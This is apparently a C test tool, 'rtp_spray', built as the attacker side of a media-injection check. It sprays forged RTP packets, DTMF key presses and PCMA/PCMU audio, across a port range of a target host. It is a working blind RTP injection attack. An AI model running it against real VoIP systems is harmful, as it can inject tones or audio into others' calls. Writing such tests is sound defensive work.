/* rtp_spray: the attacker of the media-injection e2e check (issue 8 item
 * 2). From src_ip, to every port lo..hi of dst_ip, sends in each of
 * `passes` passes an RFC 4733 key press (event `digit`, payload type 101:
 * three updates and three end packets with one timestamp) and a run of
 * eight audio packets (PCMA, then PCMU) with one SSRC per port, as a
 * blind sprayer would; stops early when max_ms have passed. Bounded:
 * at most passes * (hi - lo + 1) * 22 packets. Prints
 * "sent=N ports=P passes=K ms=T".
 *
 * usage: rtp_spray <src_ip> <dst_ip> <lo> <hi> <passes> <max_ms> [digit]
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { PT_TE = 101, RUN = 8, PAYLOAD = 160 };

static uint64_t now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000 + (uint64_t)ts.tv_nsec / 1000000;
}

static size_t rtp(uint8_t *b, bool m, uint8_t pt, uint16_t seq, uint32_t ts,
		  uint32_t ssrc)
{
	b[0] = 0x80;
	b[1] = (uint8_t)((m ? 0x80 : 0) | pt);
	b[2] = (uint8_t)(seq >> 8);
	b[3] = (uint8_t)seq;
	for (int i = 0; i < 4; i++) {
		b[4 + i] = (uint8_t)(ts >> (24 - 8 * i));
		b[8 + i] = (uint8_t)(ssrc >> (24 - 8 * i));
	}
	return 12;
}

int main(int argc, char **argv)
{
	struct sockaddr_in src = {.sin_family = AF_INET}, dst = src;
	unsigned long sent = 0;
	long lo, hi, passes, max_ms, pass = 0;
	int digit = 1, fd;
	uint64_t t0;
	uint8_t pkt[12 + PAYLOAD];

	if (argc < 7) {
		fprintf(stderr, "usage: rtp_spray <src_ip> <dst_ip> <lo> <hi> "
				"<passes> <max_ms> [digit]\n");
		return 2;
	}
	lo = atol(argv[3]);
	hi = atol(argv[4]);
	passes = atol(argv[5]);
	max_ms = atol(argv[6]);
	if (argc > 7)
		digit = atoi(argv[7]);
	if (inet_pton(AF_INET, argv[1], &src.sin_addr) != 1 ||
	    inet_pton(AF_INET, argv[2], &dst.sin_addr) != 1 || lo < 1 ||
	    hi > 65535 || lo > hi || passes < 1 || max_ms < 1 || digit < 0 ||
	    digit > 15) {
		fprintf(stderr, "rtp_spray: bad arguments\n");
		return 2;
	}
	fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (fd < 0 || bind(fd, (struct sockaddr *)&src, sizeof(src))) {
		perror("rtp_spray: bind");
		return 1;
	}
	t0 = now_ms();
	for (; pass < passes && now_ms() - t0 < (uint64_t)max_ms; pass++) {
		for (long p = lo; p <= hi; p++) {
			uint32_t ssrc = 0x5a000000u ^ (uint32_t)(p << 8) ^
					(uint32_t)pass;
			uint32_t ts = 1000u * (uint32_t)(pass + 1);
			uint16_t seq = 0;

			dst.sin_port = htons((uint16_t)p);
			for (int i = 0; i < 6; i++) {
				uint16_t dur = (uint16_t)(160 * (i + 1));
				size_t n = rtp(pkt, i == 0, PT_TE, seq++, ts,
					       ssrc);

				pkt[n++] = (uint8_t)digit;
				pkt[n++] = (uint8_t)((i >= 3 ? 0x80 : 0) | 10);
				pkt[n++] = (uint8_t)(dur >> 8);
				pkt[n++] = (uint8_t)dur;
				sent += sendto(fd, pkt, n, 0,
					       (struct sockaddr *)&dst,
					       sizeof(dst)) == (ssize_t)n;
			}
			for (int law = 0; law < 2; law++) {
				for (int i = 0; i < RUN; i++) {
					size_t n = rtp(pkt, i == 0,
						       law ? 0 : 8, seq++,
						       ts + 160u * (uint32_t)i,
						       ssrc + 1u + (uint32_t)law);

					memset(pkt + n, law ? 0x7f : 0x55,
					       PAYLOAD);
					n += PAYLOAD;
					sent += sendto(fd, pkt, n, 0,
						       (struct sockaddr *)&dst,
						       sizeof(dst)) ==
						(ssize_t)n;
				}
			}
		}
	}
	printf("sent=%lu ports=%ld passes=%ld ms=%llu\n", sent, hi - lo + 1,
	       pass, (unsigned long long)(now_ms() - t0));
	close(fd);
	return 0;
}
